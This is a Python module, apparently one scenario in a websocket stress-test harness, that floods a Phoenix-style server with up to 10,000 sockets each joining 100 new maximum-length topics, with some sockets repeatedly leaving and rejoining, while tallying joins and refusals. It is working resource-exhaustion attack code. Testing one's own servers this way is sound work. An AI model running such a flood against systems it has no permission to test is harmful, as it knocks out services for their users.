"""A million topics: up to 10,000 sockets that each join 100 topics of the longest names, which
nobody had before, and stay; one in fifty leaves them again and joins the next."""

import asyncio
import itertools
from collections.abc import Awaitable

from frames import FrameReader, push
from peer import Gone, Peer
from tally import Tally
from target import Target

SOCKETS = 10_000
TOPICS_A_SOCKET = 100
TOPIC_BYTES = 255
#: How many of an attacker's sockets join at the same time.
AT_ONCE = 64


async def attack(target: Target, tally: Tally) -> None:
    async with asyncio.TaskGroup() as group:
        flood = Flood(target, tally, group)
        for _ in range(AT_ONCE):
            group.create_task(flood.rise())


class Flood:
    """The topics of one attacker."""

    def __init__(self, target: Target, tally: Tally, group: asyncio.TaskGroup) -> None:
        self._target = target
        self._tally = tally
        self._group = group
        self._numbers = itertools.count()
        self._left = len(target.share(SOCKETS))

    async def rise(self) -> None:
        """Opens one socket after the other."""
        while True:
            if self._left == 0:
                await asyncio.sleep(0.1)
                continue
            self._left -= 1
            peer = Peer(self._target, self._tally, self._target.main)
            if names := await self._enter(peer):
                keeps = self._churn(peer, names) if self._left % 50 == 0 else peer.drain()
                self._group.create_task(self._until_gone(peer, keeps))

    async def _enter(self, peer: Peer) -> list[str]:
        try:
            await peer.connect()
            await peer.upgrade()
            return await self._join(peer)
        except (Gone, OSError):
            peer.close()
            self._left += 1
            await asyncio.sleep(0.05)
            return []

    async def _until_gone(self, peer: Peer, keeps: Awaitable[None]) -> None:
        try:
            await keeps
        except (Gone, OSError):
            self._left += 1
        finally:
            peer.close()

    async def _churn(self, peer: Peer, names: list[str]) -> None:
        while True:
            await peer.send(b"".join(push("2", name, "phx_leave") for name in names), len(names))
            names = await self._join(peer)

    async def _join(self, peer: Peer) -> list[str]:
        """Joins topics that are new, and returns them when each has got its reply."""
        names = [self._name() for _ in range(TOPICS_A_SOCKET)]
        await peer.send(b"".join(push("1", name, "phx_join") for name in names), len(names))
        reader, answers = FrameReader(), 0
        while answers < len(names):
            for _, text in reader.feed(await peer.receive()):
                # Replies to leaves bear another ref.
                if text.startswith(b'["1","1",') and b'"phx_reply"' in text:
                    answers += 1
                    self._note(text)
        return names

    def _note(self, reply: bytes) -> None:
        if b'"status":"ok"' in reply:
            self._tally.others["joins"] += 1
        else:
            reason = reply.partition(b'"reason":"')[2].partition(b'"')[0].decode()
            self._tally.refusals[reason or "no reason"] += 1

    def _name(self) -> str:
        name = f"flood:{self._target.index}:{next(self._numbers)}:"
        return name + "x" * (TOPIC_BYTES - len(name))
